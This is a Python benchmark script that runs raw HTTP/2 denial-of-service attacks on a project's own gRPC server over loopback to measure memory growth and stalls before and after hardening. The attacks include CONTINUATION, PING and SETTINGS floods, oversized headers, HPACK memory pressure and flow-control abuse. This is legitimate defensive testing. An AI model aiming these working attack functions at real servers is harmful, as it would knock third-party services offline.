"""Attacks on the gRPC port's HTTP/2 transport, as a hostile client would make them (loopback only).

Each attack is a function that talks raw HTTP/2 to a running ferry-runtime and returns what the
server answered (the GOAWAY / RST_STREAM codes it sent, or that it stopped reading). `measure()` runs
one while probing the REST health endpoint every 50 ms and sampling the server's VmRSS, so each
attack gets: RSS growth, the longest health answer (an event-loop stall shows up there) and the outcome.
tests/runtime/test_attacks_http2.py asserts the budgets (SPEC.md "Hostile input and limits");
run as a script it prints the figures for one tree, e.g. main's code against this branch's:

    python bench/attacks_http2.py --tree /work/main          # before
    python bench/attacks_http2.py                            # after (this checkout)

Every request loop is bounded in count and time, and stops by itself.
"""

from __future__ import annotations

import argparse
import os
import select
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

# The frame and integer encoders are the runtime's own (they were there before the hardening, so the
# bench can still attack an older tree's server): `frame` is re-exported for the tests.
from ferry_runtime.protocol.grpc.hpack import encode_integer
from ferry_runtime.protocol.grpc.http2 import frame

sys.path.insert(0, str(Path(__file__).resolve().parent))

ROOT = Path(__file__).resolve().parent.parent
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}
GRPC_STATUS_NAMES = {
    b"0": "OK",
    b"3": "INVALID_ARGUMENT",
    b"8": "RESOURCE_EXHAUSTED",
    b"12": "UNIMPLEMENTED",
    b"13": "INTERNAL",
}
MODEL_INFER = b"/inference.GRPCInferenceService/ModelInfer"


def literal(name: bytes, value: bytes) -> bytes:
    """HPACK 'literal without indexing, new name', no Huffman: no encoder state on either side."""
    return b"\x00" + encode_integer(len(name), 7) + name + encode_integer(len(value), 7) + value


def request_block(path: bytes = MODEL_INFER, extra: bytes = b"") -> bytes:
    """A gRPC request's header block: :method POST (static 3), :scheme http (6), then literals."""
    return (
        b"\x83\x86"
        + literal(b":path", path)
        + literal(b":authority", b"localhost")
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
        + extra
    )


@dataclass
class Answer:
    """What the server sent back on one raw connection."""

    goaway: list[str] = field(default_factory=list)
    resets: dict[str, int] = field(default_factory=dict)
    pings: int = 0
    settings_acks: int = 0
    headers_frames: list[int] = field(default_factory=list)
    statuses: dict[str, int] = field(default_factory=dict)
    closed: bool = False

    def summary(self) -> str:
        parts = [f"GOAWAY {code}" for code in self.goaway]
        parts += [f"RST {code} x{count}" for code, count in sorted(self.resets.items())]
        parts += [f"grpc-status {status} x{count}" for status, count in sorted(self.statuses.items())]
        if self.pings:
            parts.append(f"{self.pings} PING ACKs")
        if self.settings_acks:
            parts.append(f"{self.settings_acks} SETTINGS ACKs")
        if self.closed:
            parts.append("closed")
        return ", ".join(parts) or "nothing"


class RawConnection:
    """A bare HTTP/2 client connection: sends what it is told, reads and classifies what comes back."""

    def __init__(self, port: int, receive_buffer: int = 0) -> None:
        self.sock = socket.socket()
        if receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.connect(("127.0.0.1", port))
        # No send may block for ever (a server that stops reading fills this side's send buffer).
        self.sock.settimeout(5)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.answer = Answer()
        self._buffer = bytearray()

    def send(self, data: bytes) -> bool:
        """False when the server closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.answer.closed = True
            return False

    def read(self, seconds: float, until_goaway: bool = True) -> Answer:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            ready, _, _ = select.select([self.sock], [], [], max(deadline - time.monotonic(), 0))
            if not ready:
                break
            try:
                chunk = self.sock.recv(1 << 20)
            except OSError:
                chunk = b""
            if not chunk:
                self.answer.closed = True
                break
            self._buffer += chunk
            self._parse()
            if until_goaway and self.answer.goaway:
                break
        return self.answer

    def _parse(self) -> None:
        buffer = self._buffer
        offset = 0
        while len(buffer) - offset >= 9:
            length = int.from_bytes(buffer[offset : offset + 3], "big")
            if len(buffer) - offset < 9 + length:
                break
            kind, flags = buffer[offset + 3], buffer[offset + 4]
            payload = bytes(buffer[offset + 9 : offset + 9 + length])
            offset += 9 + length
            if kind == GOAWAY:
                self.answer.goaway.append(ERROR_NAMES.get(int.from_bytes(payload[4:8], "big"), "?"))
            elif kind == RST_STREAM:
                name = ERROR_NAMES.get(int.from_bytes(payload, "big"), "?")
                self.answer.resets[name] = self.answer.resets.get(name, 0) + 1
            elif kind == PING and flags & 1:
                self.answer.pings += 1
            elif kind in (HEADERS, CONTINUATION):
                self.answer.headers_frames.append(length)
                # The server writes grpc-status as a plain literal: name, a length byte, the digits.
                found = payload.find(b"grpc-status")
                if found >= 0:
                    start = found + len(b"grpc-status") + 1
                    status = GRPC_STATUS_NAMES.get(payload[start : start + payload[start - 1]], "?")
                    self.answer.statuses[status] = self.answer.statuses.get(status, 0) + 1
            elif kind == SETTINGS and flags & 1:
                self.answer.settings_acks += 1
            elif kind == SETTINGS and select.select([], [self.sock], [], 0)[1]:
                # Acknowledged when that cannot block (a flood may have filled the send buffer).
                self.send(frame(SETTINGS, 1, 0))
        del buffer[:offset]

    def close(self) -> None:
        self.sock.close()


# --- the attacks: each returns what the server answered -------------------------------------------


def concurrent_streams(port: int, streams: int = 1000) -> str:
    """Open many streams at once and never finish them (requests that never end)."""
    connection = RawConnection(port)
    payload = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, request_block()) for i in range(streams))
    connection.send(payload)
    answer = connection.read(2.0, until_goaway=False)
    connection.close()
    return answer.summary()


def large_header_frames(port: int, frames: int = 30, size: int = 1 << 20) -> str:
    """One HEADERS frame of 1 MiB per stream, 30 streams on one connection."""
    connection = RawConnection(port)
    value = b"x" * (size - 200)
    for index in range(frames):
        block = request_block(extra=literal(b"x-big", value))
        if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, block)):
            break
    answer = connection.read(3.0)
    connection.close()
    return answer.summary()


def continuation_flood(port: int, frames: int = 40_000) -> str:
    """A header block that never ends: HEADERS, then tens of thousands of empty CONTINUATION frames."""
    connection = RawConnection(port)
    connection.send(frame(HEADERS, 0, 1, request_block()))
    empty = frame(CONTINUATION, 0, 1)
    batch = 1000
    for _ in range(frames // batch):
        if not connection.send(empty * batch):
            break
    connection.send(frame(CONTINUATION, END_HEADERS, 1))
    answer = connection.read(15.0)
    connection.close()
    return answer.summary()


def hpack_memo(port: int, connections: int = 8, blocks: int = 300, size: int = 60_000) -> str:
    """Ever-different large header blocks that leave the dynamic table unchanged (the decoder's memo
    of such blocks must not keep them), sent as HEADERS + CONTINUATION frames of 16 KiB."""
    opened = []
    for number in range(connections):
        connection = RawConnection(port)
        opened.append(connection)
        for index in range(blocks):
            value = (b"%d-%d-" % (number, index)) * (size // 12)
            block = request_block(extra=literal(b"x-filler", value[:size]))
            pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
            data = frame(
                HEADERS, END_STREAM if len(pieces) > 1 else END_STREAM | END_HEADERS, 2 * index + 1, pieces[0]
            )
            for position, piece in enumerate(pieces[1:], 2):
                data += frame(
                    CONTINUATION, END_HEADERS if position == len(pieces) else 0, 2 * index + 1, piece
                )
            if not connection.send(data):
                break
    # All connections stay open until every block is sent: what the server keeps per connection adds up.
    held = [connection.read(1.0, until_goaway=False).summary() for connection in opened]
    for connection in opened:
        connection.close()
    return held[0] if len(set(held)) == 1 else "; ".join(held)


def ping_flood(port: int, seconds: float = 5.0, budget: int = 200 << 20, flood: bytes = b"") -> str:
    """PINGs as fast as the socket takes them, never reading the ACKs."""
    connection = RawConnection(port, receive_buffer=4096)
    connection.sock.setblocking(False)
    pings = (flood or frame(PING, 0, 0, b"12345678")) * 4096
    sent = 0
    stalled_since: float | None = None
    deadline = time.monotonic() + seconds
    offset = 0  # into `pings`: a partial send must be continued, not restarted, to keep frames whole
    while time.monotonic() < deadline and sent < budget:
        try:
            count = connection.sock.send(pings[offset:])
            sent += count
            offset = (offset + count) % len(pings)
            stalled_since = None
        except BlockingIOError:
            # The server stopped reading: the attack can go no further.
            stalled_since = stalled_since or time.monotonic()
            if time.monotonic() - stalled_since > 1.0:
                break
            time.sleep(0.01)
        except OSError:
            connection.answer.closed = True
            break
    connection.sock.settimeout(5)
    answer = connection.read(3.0)
    connection.close()
    stopped = "server stopped reading" if stalled_since else "server kept reading"
    kind = "SETTINGS" if flood else "PINGs"
    return f"{sent >> 20} MiB of {kind} sent, {stopped}; then {answer.summary()}"


def settings_flood(port: int) -> str:
    """SETTINGS frames (each one acknowledged) as fast as the socket takes them, never reading."""
    return ping_flood(port, flood=frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64"))


def flow_control(port: int, streams: int = 40, message: int = 25 << 20) -> str:
    """Many streams each sending a large message at once, ignoring the server's flow-control windows."""
    connection = RawConnection(port)
    chunk = b"\x00" * 16384
    for index in range(streams):
        stream_id = 2 * index + 1
        prefix = b"\x00" + message.to_bytes(4, "big")
        if not connection.send(frame(HEADERS, END_HEADERS, stream_id, request_block())):
            break
        if not connection.send(frame(DATA, 0, stream_id, prefix)):
            break
    alive = True
    for _ in range(message // len(chunk)):
        data = b"".join(frame(DATA, 0, 2 * index + 1, chunk) for index in range(streams))
        if not connection.send(data):
            alive = False
            break
        # Read what came back as we go, so the server's answers never block on this side.
        connection.read(0.0, until_goaway=False)
        if connection.answer.goaway:
            break
    answer = connection.read(2.0 if alive else 0.5)
    connection.close()
    return answer.summary()


def long_status_message(port: int) -> str:
    """An unknown method whose long, non-ASCII name comes back in grpc-message: the trailers must stay
    within the client's SETTINGS_MAX_FRAME_SIZE (16384, the default this client keeps)."""
    connection = RawConnection(port)
    path = ("/" + "é" * 6000).encode()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path=path)))
    answer = connection.read(2.0, until_goaway=False)
    connection.close()
    largest = max(answer.headers_frames, default=0)
    return f"largest header frame {largest} bytes; {answer.summary()}"


ATTACKS: dict[str, Callable[[int], str]] = {
    "concurrent-streams": concurrent_streams,
    "large-header-frames": large_header_frames,
    "continuation-flood": continuation_flood,
    "hpack-memo": hpack_memo,
    "ping-flood": ping_flood,
    "settings-flood": settings_flood,
    "flow-control": flow_control,
    "long-grpc-message": long_status_message,
}


# --- measuring ------------------------------------------------------------------------------------


def rss_bytes(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for {pid}")


@dataclass
class Measurement:
    attack: str
    outcome: str
    rss_growth: int
    slowest_health: float
    health_failures: int
    seconds: float


def measure(name: str, attack: Callable[[int], str], pid: int, http_port: int, grpc_port: int) -> Measurement:
    """Run one attack while probing /v2/health/ready every 50 ms and sampling the server's RSS."""
    before = rss_bytes(pid)
    peak = [before]
    slowest = [0.0]
    failures = [0]
    done = threading.Event()

    def probe() -> None:
        url = f"http://127.0.0.1:{http_port}/v2/health/ready"
        while not done.is_set():
            started = time.monotonic()
            try:
                with urllib.request.urlopen(url, timeout=10) as reply:
                    reply.read()
            except OSError:
                failures[0] += 1
            slowest[0] = max(slowest[0], time.monotonic() - started)
            peak[0] = max(peak[0], rss_bytes(pid))
            done.wait(0.05)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    started = time.monotonic()
    try:
        outcome = attack(grpc_port)
    finally:
        done.set()
        prober.join(15)
    seconds = time.monotonic() - started
    peak[0] = max(peak[0], rss_bytes(pid))
    return Measurement(name, outcome, peak[0] - before, slowest[0], failures[0], seconds)


def start_server(model_dir: Path, tree: Path, log: Path) -> tuple[subprocess.Popen[bytes], int, int]:
    ports = []
    for _ in range(2):
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            ports.append(int(probe.getsockname()[1]))
    http_port, grpc_port = ports
    env = dict(os.environ, PYTHONPATH=str(tree / "runtime"))
    command = [
        str(Path(sys.executable).parent / "ferry-runtime"),
        *("--model-dir", str(model_dir), "--model-name", "digits", "--host", "127.0.0.1"),
        *("--http-port", str(http_port), "--grpc-port", str(grpc_port), "--intra-op-threads", "1"),
    ]
    with log.open("wb") as out:
        process = subprocess.Popen(command, stdout=out, stderr=subprocess.STDOUT, env=env)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{http_port}/v2/health/ready", timeout=1):
                return process, http_port, grpc_port
        except OSError:
            time.sleep(0.1)
    process.kill()
    raise RuntimeError(f"ferry-runtime did not become ready:\n{log.read_text()}")


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--tree", type=Path, default=ROOT, help="checkout whose runtime/ the server runs")
    parser.add_argument("--attacks", default=",".join(ATTACKS), help="comma-separated attack names")
    args = parser.parse_args()
    import runtime_models

    print(f"HTTP/2 attacks against {args.tree} ({os.cpu_count()} CPUs)")
    print(f"{'attack':<20} {'RSS growth':>10} {'slowest health':>15} {'seconds':>8}  outcome")
    with tempfile.TemporaryDirectory() as scratch:
        digits = runtime_models.build_digits_model(Path(scratch) / "digits")
        for name in args.attacks.split(","):
            # A fresh server per attack: one attack's leftovers must not be charged to the next.
            process, http_port, grpc_port = start_server(digits.path.parent, args.tree, Path(scratch) / "log")
            try:
                result = measure(name, ATTACKS[name], process.pid, http_port, grpc_port)
            finally:
                process.terminate()
                process.wait(60)
            print(
                f"{name:<20} {result.rss_growth / 2**20:>7.0f} MB {result.slowest_health * 1000:>12.0f} ms "
                f"{result.seconds:>8.1f}  {result.outcome}"
                + (f" ({result.health_failures} health probes failed)" if result.health_failures else "")
            )
    return 0


if __name__ == "__main__":
    sys.exit(main())
